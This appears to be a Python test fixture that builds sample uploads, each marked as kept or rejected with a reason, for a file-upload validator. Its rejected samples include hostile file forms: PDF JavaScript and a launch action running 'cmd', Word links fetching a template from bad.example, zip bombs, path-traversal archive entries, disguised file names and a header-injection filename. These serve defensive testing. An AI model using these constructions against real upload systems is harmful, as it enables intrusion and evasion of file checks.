"""Files that people and attackers send, made in memory, each with the verdict it must get."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from PIL import Image, PngImagePlugin


Parts = dict[str, bytes]


class Sent(NamedTuple):
    """A file as it is sent, and what its sender is told; "" where it is kept."""

    about: str
    name: str
    data: bytes
    told: str = ""


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\ntrailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
ODT = "application/vnd.oasis.opendocument.text"
PLACE = {1: "N", 2: (52.0, 37.0, 42.0), 3: "E", 4: (1.0, 17.0, 48.0)}
WHO = "Taken by Jordan Marlowe"

NOT_KEPT, TWO, MACROS = "must be a PDF, JPEG, PNG", "two types at once", "with macros"
PICTURE, DAMAGED, CUT, TOO_MUCH = "picture is cut off", "document is damaged", "PDF is cut off", "unpacks to far more"
INSIDE, PASSWORD, SCRIPT, FETCHES = "another file inside", "protected by a password", "has a script", "from elsewhere"


def zipped(parts: Parts, pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return an archive of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", pack) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name), data, pack)
    return out.getvalue()


def docx(main: str = WORD, body: bytes = b"<w:document/>", more: Parts | None = None) -> bytes:
    """Return a Word document, perhaps with more parts."""
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'.encode()
    return zipped({"[Content_Types].xml": types, "word/document.xml": body, **(more or {})})


def xlsx(main: str = SHEET, more: Parts | None = None) -> bytes:
    """Return a workbook as Word keeps one behind a chart."""
    types = f'<Types><Override PartName="/xl/workbook.xml" ContentType="{main}"/></Types>'.encode()
    return zipped({"[Content_Types].xml": types, "xl/workbook.xml": b"<workbook/>", **(more or {})})


def with_chart(workbook: bytes, name: str = "Microsoft_Excel_Sheet1.xlsx") -> bytes:
    """Return a Word document with a workbook behind a chart."""
    return docx(more={f"word/embeddings/{name}": workbook})


def odt(mimetype: str = ODT, content: bytes = b"<office:document-content/>", more: Parts | None = None) -> bytes:
    """Return an OpenDocument text, perhaps with more parts."""
    return zipped({"mimetype": mimetype.encode(), "content.xml": content, **(more or {})})


def with_part(data: bytes, name: str, part: bytes = b"x") -> bytes:
    """Return an archive with one part more, whatever its name."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, part)
    return out.getvalue()


def encrypted(data: bytes) -> bytes:
    """Return an archive whose table of contents says that every part is encrypted."""
    out, at = bytearray(data), -1
    while (at := out.find(b"PK\x01\x02", at + 1)) >= 0:
        out[at + 8] |= 1
    return bytes(out)


def lying(data: bytes) -> bytes:
    """Return an archive whose table of contents says that each part is small."""
    out, at = bytearray(data), -1
    while (at := out.find(b"PK\x01\x02", at + 1)) >= 0:
        out[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(out)


def picture(form: str, mode: str = "RGB", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    """Return a small picture, red on the left and blue on the right."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    image.convert(mode).save(out, form, **options)
    return out.getvalue()


def exif(orientation: int = 1) -> Image.Exif:
    """Return what a telephone notes in a picture: where, by whom and which way up."""
    noted = Image.Exif()
    noted[0x013B], noted[0x0112] = WHO, orientation
    noted[0x8825] = PLACE
    return noted


def png_text() -> PngImagePlugin.PngInfo:
    """Return a note as a PNG keeps it."""
    noted = PngImagePlugin.PngInfo()
    noted.add_text("Author", WHO)
    noted.add_text("Comment", WHO, zip=True)
    return noted


def png_header(width: int, height: int) -> bytes:
    """Return a PNG of which only the header says how large it would be."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def huge_jpeg() -> bytes:
    """Return a JPEG whose header claims 60,000 by 60,000 pixels."""
    data = bytearray(picture("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 60000, 60000)
    return bytes(data)


def pdf_with(dictionary: bytes) -> bytes:
    """Return a PDF whose catalogue holds something."""
    return PDF.replace(b"/Pages", dictionary + b" /Pages")


def packed_pdf(inside: bytes) -> bytes:
    """Return a PDF that keeps its objects in a packed stream, as newer programs write it."""
    packed = b"5 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>> stream\n" + zlib.compress(inside)
    return PDF.replace(b"trailer", packed + b"\nendstream endobj\ntrailer")


def program() -> bytes:
    return b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode."


BOMB = bytes(20 * 1024 * 1024)
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LINK = f'<Relationship Id="r1" Type="{RELATIONSHIPS}/{{}}" Target="{{}}" TargetMode="External"/>'
TEMPLATE = LINK.format("attachedTemplate", "https://bad.example/t.dotm").encode()
OBJECT = LINK.format("oleObject", "mhtml:https://bad.example/x").encode()
HYPERLINK = LINK.format("hyperlink", "https://www.gov.uk/").encode()
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

GOOD: tuple[tuple[str, str, Callable[[], bytes]], ...] = (
    ("a PDF", "plan.pdf", lambda: PDF),
    ("a DOCX with a chart", "plan.docx", lambda: with_chart(xlsx())),
    ("an older PDF", "plan.pdf", lambda: PDF.replace(b"1.7", b"1.3")),
    ("a PDF saved twice", "plan.pdf", lambda: PDF + b"3 0 obj <<>> endobj\nstartxref\n5\n%%EOF\n\n"),
    ("a PDF that opens at a page", "plan.pdf", lambda: pdf_with(b"/OpenAction [3 0 R /Fit]")),
    ("a PDF with packed objects", "plan.pdf", lambda: packed_pdf(b"<</Type /Page>>")),
    ("a PDF with /JS among packed bytes", "plan.pdf", lambda: PDF.replace(b"tra", b"stream\n/JS (\nendstream\ntra", 1)),
    ("a PDF in capitals", "PLAN.PDF", lambda: PDF),
    ("a path in the name", "../../etc/passwd.pdf", lambda: PDF),
    ("a Windows path in the name", "C:\\temp\\plan.pdf", lambda: PDF),
    ("a name of 300 letters", "a" * 300 + ".pdf", lambda: PDF),
    ("an override in the name", "\u202efdp.exe.pdf", lambda: PDF),
    ("a NUL in the name", "plan\0.pdf", lambda: PDF),
    ("a double ending that ends well", "plan.html.pdf", lambda: PDF),
    ("a line break and a header in the name", 'x"\r\nSet-Cookie: a=b.pdf', lambda: PDF),
    ("a name in Cyrillic", "план.pdf", lambda: PDF),
    ("a JPEG", "photo.jpg", lambda: picture("JPEG")),
    ("a JPEG called .jpeg", "photo.jpeg", lambda: picture("JPEG", quality=95)),
    ("a grey JPEG", "photo.jpg", lambda: picture("JPEG", "L")),
    ("a CMYK JPEG", "photo.jpg", lambda: picture("JPEG", "CMYK")),
    ("a progressive JPEG", "photo.jpg", lambda: picture("JPEG", progressive=True)),
    ("a JPEG with GPS", "photo.jpg", lambda: picture("JPEG", exif=exif(), comment=WHO)),
    ("a JPEG with GPS on its side", "photo.jpg", lambda: picture("JPEG", exif=exif(6))),
    ("a PNG", "scan.png", lambda: picture("PNG")),
    ("a PNG with EXIF and text", "scan.png", lambda: picture("PNG", exif=exif(), pnginfo=png_text())),
    ("a PNG on its side", "scan.png", lambda: picture("PNG", exif=exif(8))),
    ("a PNG with a palette", "scan.png", lambda: picture("PNG", "P", transparency=0)),
    ("a PNG one can see through", "scan.png", lambda: picture("PNG", "RGBA")),
    ("a black and white PNG", "scan.png", lambda: picture("PNG", "1")),
    ("a large PNG", "scan.png", lambda: picture("PNG", "RGB", (5000, 4900))),
    ("a Word document", "plan.docx", docx),
    ("a Word document with a link", "plan.docx", lambda: docx(more={"word/_rels/document.xml.rels": HYPERLINK})),
    ("a Word document with a picture", "plan.docx", lambda: docx(more={"word/media/1.png": picture("PNG")})),
    ("a long Word document", "plan.docx", lambda: docx(body=b"<w:p>The pupil reads well.</w:p>" * 9000)),
    ("an OpenDocument text", "plan.odt", odt),
    ("an OpenDocument text with a picture", "plan.odt", lambda: odt(more={"Pictures/1": picture("JPEG")})),
    ("EICAR in a PDF, which is for the scan", "plan.pdf", lambda: PDF.replace(b"trailer", EICAR + b"\ntrailer")),
)
BAD: tuple[tuple[str, str, Callable[[], bytes], str], ...] = (
    ("nothing", "plan.pdf", lambda: b"", "is empty"),
    ("a web page renamed", "plan.pdf", lambda: HTML, NOT_KEPT),
    ("an SVG", "plan.svg", lambda: SVG, NOT_KEPT),
    ("an SVG renamed", "plan.png", lambda: SVG, NOT_KEPT),
    ("a program renamed", "plan.pdf", program, NOT_KEPT),
    ("a program renamed to DOCX", "plan.docx", program, NOT_KEPT),
    ("EICAR as text, renamed", "plan.pdf", lambda: EICAR, NOT_KEPT),
    ("EICAR as text", "eicar.com", lambda: EICAR, NOT_KEPT),
    ("no ending", "plan", lambda: PDF, NOT_KEPT),
    ("a double ending", "plan.pdf.exe", lambda: PDF, NOT_KEPT),
    ("an ending turned round", "plan.pdf\u202egpj.exe", lambda: PDF, NOT_KEPT),
    ("a NUL before another ending", "plan.pdf\0.html", lambda: PDF, NOT_KEPT),
    ("a PNG called PDF", "plan.pdf", lambda: picture("PNG"), NOT_KEPT),
    ("a PDF called JPEG", "photo.jpg", lambda: PDF, NOT_KEPT),
    ("a DOCX called PDF", "plan.pdf", docx, NOT_KEPT),
    ("a GIF", "photo.gif", lambda: picture("GIF"), NOT_KEPT),
    ("a WebP called JPEG", "photo.jpg", lambda: picture("WEBP"), NOT_KEPT),
    ("an archive", "plans.zip", lambda: zipped({"plan.pdf": PDF}), NOT_KEPT),
    ("a PDF after a line break", "plan.pdf", lambda: b"\n" + PDF, NOT_KEPT),
    ("a PDF that is also a page", "plan.pdf", lambda: PDF[:9] + HTML + PDF[9:], TWO),
    ("a PDF that is also an archive", "plan.pdf", lambda: PDF + zipped({"a": b"a"}) + b"%%EOF", TWO),
    ("a JPEG that is also an archive", "photo.jpg", lambda: picture("JPEG") + zipped({"a": b"a"}), TWO),
    ("a PNG that is also an archive", "scan.png", lambda: picture("PNG") + zipped({"a": b"a"}), TWO),
    ("a JPEG with a page in its comment", "photo.jpg", lambda: picture("JPEG", comment=HTML), TWO),
    ("a PDF cut off", "plan.pdf", lambda: PDF[:-20], CUT),
    ("a PDF of five letters", "plan.pdf", lambda: b"%PDF-", CUT),
    ("a PDF with much after its end", "plan.pdf", lambda: PDF + bytes(5000), CUT),
    ("a PDF with JavaScript", "plan.pdf", lambda: pdf_with(b"/OpenAction <</S /JavaScript /JS (alert(1))>>"), SCRIPT),
    ("a PDF with JavaScript spelt oddly", "plan.pdf", lambda: pdf_with(b"/AA <</S /J#61vaScr#69pt>>"), SCRIPT),
    ("a PDF with a short script", "plan.pdf", lambda: pdf_with(b"/AA <</JS (app.alert(1))>>"), SCRIPT),
    ("a PDF with packed JavaScript", "plan.pdf", lambda: packed_pdf(b"<</S /JavaScript /JS (x)>>"), SCRIPT),
    ("a PDF that starts a program", "plan.pdf", lambda: pdf_with(b"/AA <</S /Launch /F (cmd)>>"), "another program"),
    ("a PDF with a file", "plan.pdf", lambda: pdf_with(b"/Names <</EmbeddedFiles 9 0 R>>"), INSIDE),
    ("a PDF with one file", "plan.pdf", lambda: pdf_with(b"/Type /EmbeddedFile"), INSIDE),
    ("a PNG of 40,000 by 40,000 pixels", "scan.png", lambda: png_header(40_000, 40_000), "25 million pixels"),
    ("a PNG a little too large", "scan.png", lambda: png_header(5001, 5000), "25 million pixels"),
    ("a JPEG of 60,000 by 60,000 pixels", "photo.jpg", huge_jpeg, "25 million pixels"),
    ("a JPEG cut off", "photo.jpg", lambda: picture("JPEG", size=(800, 800))[:-2000], PICTURE),
    ("a JPEG of four bytes", "photo.jpg", lambda: b"\xff\xd8\xff\xe0", PICTURE),
    ("a PNG cut off", "scan.png", lambda: picture("PNG")[:-60], PICTURE),
    ("a PNG with too few lines", "scan.png", lambda: png_header(4000, 4000), PICTURE),
    ("a document with macros", "plan.docm", lambda: docx(MACRO_WORD), MACROS),
    ("a DOCM renamed", "plan.docx", lambda: docx(MACRO_WORD), MACROS),
    ("a DOCX with macros", "plan.docx", lambda: docx(more={"word/vbaProject.bin": b"x"}), MACROS),
    ("a DOCX with macros elsewhere", "plan.docx", lambda: docx(more={"x/VBAPROJECT.BIN": b"x"}), MACROS),
    ("a DOCX with a control", "plan.docx", lambda: docx(more={"word/activeX/a.xml": b"x"}), INSIDE),
    ("a DOCX with an object", "plan.docx", lambda: docx(more={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0"}), INSIDE),
    ("a DOCX with a template elsewhere", "plan.docx", lambda: docx(more={"word/_rels/s.xml.rels": TEMPLATE}), FETCHES),
    ("a DOCX with an object elsewhere", "plan.docx", lambda: docx(more={"word/_rels/d.xml.rels": OBJECT}), FETCHES),
    ("a spreadsheet renamed", "plan.docx", lambda: zipped({"[Content_Types].xml": b"", "xl/a.xml": b""}), "not a Word"),
    ("an archive renamed", "plan.docx", lambda: zipped({"plan.pdf": PDF}), "not a Word"),
    ("a chart with macros", "plan.docx", lambda: with_chart(xlsx(MACRO_SHEET)), MACROS),
    ("a chart with hidden macros", "plan.docx", lambda: with_chart(xlsx(more={"xl/vbaProject.bin": b"x"})), MACROS),
    ("a chart with a program", "plan.docx", lambda: with_chart(xlsx(more={"xl/embeddings/a.bin": b"MZ"})), INSIDE),
    ("a chart in a chart", "plan.docx", lambda: with_chart(xlsx(more={"word/embeddings/a.xlsx": xlsx()})), INSIDE),
    ("a chart that fetches", "plan.docx", lambda: with_chart(xlsx(more={"xl/externalLinks/a.xml": b"x"})), FETCHES),
    ("a chart that is a document", "plan.docx", lambda: with_chart(docx()), INSIDE),
    ("a chart that is no archive", "plan.docx", lambda: with_chart(b"MZ"), DAMAGED),
    ("a chart that is a bomb", "plan.docx", lambda: with_chart(xlsx(more={"xl/a.xml": BOMB})), TOO_MUCH),
    ("a chart of another kind", "plan.docx", lambda: with_chart(xlsx(), "a.xlsm"), INSIDE),
    ("a PDF with a password", "plan.pdf", lambda: pdf_with(b"/Encrypt 5 0 R"), PASSWORD),
    ("an archive in an archive", "plan.docx", lambda: with_part(docx(), "a.bin", zipped({"a": b"a"})), INSIDE),
    ("a DOCX bomb", "plan.docx", lambda: docx(body=BOMB), TOO_MUCH),
    ("an ODT bomb", "plan.odt", lambda: odt(content=BOMB), TOO_MUCH),
    ("a bomb beside a good document", "plan.docx", lambda: docx(more={"word/bomb.xml": BOMB}), TOO_MUCH),
    ("a bomb that lies about its size", "plan.docx", lambda: lying(docx(body=BOMB)), DAMAGED),
    ("a bomb of many parts", "plan.docx", lambda: docx(more={f"p{n}": b"" for n in range(2001)}), TOO_MUCH),
    ("a DOCX with a way out", "plan.docx", lambda: with_part(docx(), "../../evil.xml"), DAMAGED),
    ("a DOCX with an absolute part", "plan.docx", lambda: with_part(docx(), "/etc/passwd"), DAMAGED),
    ("a DOCX with a Windows part", "plan.docx", lambda: with_part(docx(), "C:\\evil.xml"), DAMAGED),
    ("a DOCX cut off", "plan.docx", lambda: docx()[:-30], DAMAGED),
    ("a DOCX with a wrong checksum", "plan.docx", lambda: with_part(docx(), "n", b"AA").replace(b"AA", b"AB"), DAMAGED),
    ("an encrypted archive", "plan.docx", lambda: encrypted(docx()), PASSWORD),
    ("a DOCX with a password", "plan.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), PASSWORD),
    ("an old Word document", "plan.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), PASSWORD),
    ("an ODT with macros", "plan.odt", lambda: odt(more={"Basic/Standard/M": b"Sub Main"}), MACROS),
    ("an ODT with scripts", "plan.odt", lambda: odt(more={"Scripts/python/a": b"import os"}), MACROS),
    ("an ODT locked", "plan.odt", lambda: odt(more={"META-INF/manifest.xml": b"<encryption-data>"}), PASSWORD),
    ("an ODT that is a spreadsheet", "plan.odt", lambda: odt(ODT.replace("text", "spreadsheet")), "not an Open"),
    ("a DOCX called ODT", "plan.odt", docx, "not an OpenDocument"),
    ("an ODT called DOCX", "plan.docx", odt, "not a Word"),
)  # fmt: skip
CORPUS = [*(Sent(about, name, make()) for about, name, make in GOOD), *(Sent(a, n, m(), told) for a, n, m, told in BAD)]
